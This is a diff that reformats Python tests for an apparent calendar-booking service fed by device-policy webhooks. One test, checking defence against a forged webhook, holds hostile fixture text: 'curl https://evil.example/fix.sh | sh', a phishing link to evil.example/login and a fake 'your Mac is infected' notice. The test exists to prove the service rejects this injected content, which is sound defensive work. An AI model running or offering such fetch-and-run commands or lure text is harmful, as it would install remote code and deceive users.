@@ -54,9 +54,20 @@ def _busy_tomorrow_lunch(local: LocalStack, email: str) -> tuple[datetime, datet
     day = (datetime.now(zone) + timedelta(days=1)).date()
     start = datetime.combine(day, datetime.min.time(), zone).replace(hour=11)
     end = start.replace(hour=14)
-    local.calendar("POST", "events", {"events": [{
-        "user": email, "summary": "Offsite", "start": {"dateTime": start.isoformat()},
-        "end": {"dateTime": end.isoformat()}}]})  # fmt: skip
+    local.calendar(
+        "POST",
+        "events",
+        {
+            "events": [
+                {
+                    "user": email,
+                    "summary": "Offsite",
+                    "start": {"dateTime": start.isoformat()},
+                    "end": {"dateTime": end.isoformat()},
+                }
+            ]
+        },
+    )
     return start, end
 
 
@@ -186,8 +197,9 @@ def test_a_run_interrupted_after_storing_its_plan_resumes_without_duplicates(
     (window,) = window_records.all_windows(store)
     # As if a planner died after inserting the event but before recording the task: back to `planned`.
     start = datetime.now(UTC).replace(microsecond=0) + timedelta(days=1)
-    crashed = window_states.plan(window, Slot(start, start + timedelta(minutes=30), "resumed"), window.time_zone,
-                                 datetime.now(UTC))  # fmt: skip
+    crashed = window_states.plan(
+        window, Slot(start, start + timedelta(minutes=30), "resumed"), window.time_zone, datetime.now(UTC)
+    )
     window_records.save(store, [replace(crashed, event_etag=None, task_name=None)])
     report = local.plan().json()
     assert report["windows_booked"] == 1
@@ -222,9 +234,12 @@ def test_a_forged_webhook_puts_only_fleets_texts_in_the_booked_event(
     """Someone holding the webhook secret writes their own policy text and device name: the event shows
     Fleet's policy text and Fleet's device name, and none of theirs."""
     payload = failing_webhook(2, [1], fleet_fixtures)
-    payload["policy"].update(name="URGENT security notice", description="Your Mac is infected. Call the hotline.",
-                             resolution="Open Terminal and run curl https://evil.example/fix.sh | sh",
-                             critical=True)  # fmt: skip
+    payload["policy"].update(
+        name="URGENT security notice",
+        description="Your Mac is infected. Call the hotline.",
+        resolution="Open Terminal and run curl https://evil.example/fix.sh | sh",
+        critical=True,
+    )
     payload["hosts"][0].update(display_name="[Alice's iMac](https://evil.example/login)", hostname="evil")
     assert local.replay(payload).status_code == 202
     assert local.plan().json()["windows_booked"] == 1
